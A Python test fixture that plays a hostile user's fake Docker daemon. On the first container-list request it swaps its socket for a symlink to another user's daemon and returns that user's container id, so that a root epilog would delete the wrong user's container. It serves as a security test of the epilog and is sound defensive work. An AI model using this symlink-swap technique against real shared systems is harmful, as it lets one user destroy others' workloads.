"""A job user's fake Docker daemon that tries to make the root epilog remove another
user's container (the cross-user removal attack), as the attacker would run it. Run as
user2 by test_fault_hostile_daemon.py; standard library only.

    python swapping_dockerd.py SOCKET VICTIM_SOCKET VICTIM_ID LOG

It listens at SOCKET (the path the site's ``docker_host`` names for its user) and answers
every container list with VICTIM_ID, the id of a container in another user's daemon.
Before it answers the first list it puts a link to VICTIM_SOCKET where its own socket
was, so that the epilog's next connection (its removal of that id) would reach the victim's
daemon. Every request it gets, and the swap, go to LOG as JSON lines; it prints
``listening`` once it listens. On SIGTERM it removes what it put at SOCKET and ends.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sys


def log(path: str, **fields: object) -> None:
    with open(path, "a") as fh:
        fh.write(json.dumps(fields) + "\n")


def answer(conn: socket.socket, status: str, body: bytes) -> None:
    head = f"HTTP/1.0 {status}\r\nContent-Type: application/json\r\nApi-Version: 1.41\r\n"
    conn.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)


def serve(srv: socket.socket, sock_path: str, victim_sock: str, victim_id: str, out: str) -> None:
    swapped = False
    while True:
        conn, _ = srv.accept()
        with conn:
            data = b""
            while b"\r\n\r\n" not in data:
                more = conn.recv(65536)
                if not more:
                    break
                data += more
            method, _, rest = data.partition(b"\r\n")[0].decode(errors="replace").partition(" ")
            target = rest.rpartition(" ")[0]
            log(out, request=f"{method} {target}")
            if "/containers/json" in target:
                # Swapped before the answer: the epilog's next connection comes after
                # it. Swapped after, a fast epilog could connect to this socket first
                # and its removal come here, which proves nothing.
                if not swapped:
                    os.unlink(sock_path)
                    os.symlink(victim_sock, sock_path)
                    swapped = True
                    log(out, swapped=victim_sock)
                answer(conn, "200 OK", json.dumps([{"Id": victim_id}]).encode())
            elif target.endswith("/_ping"):
                answer(conn, "200 OK", b"OK")
            else:
                answer(conn, "404 Not Found", b'{"message": "not here"}')


def main() -> None:
    sock_path, victim_sock, victim_id, out = sys.argv[1:5]

    def end(_signum: int, _frame: object) -> None:
        if os.path.lexists(sock_path):
            os.unlink(sock_path)
        raise SystemExit(0)

    signal.signal(signal.SIGTERM, end)
    if os.path.lexists(sock_path):
        os.unlink(sock_path)
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(sock_path)
    srv.listen(16)
    print("listening", flush=True)
    serve(srv, sock_path, victim_sock, victim_id, out)


if __name__ == "__main__":
    main()
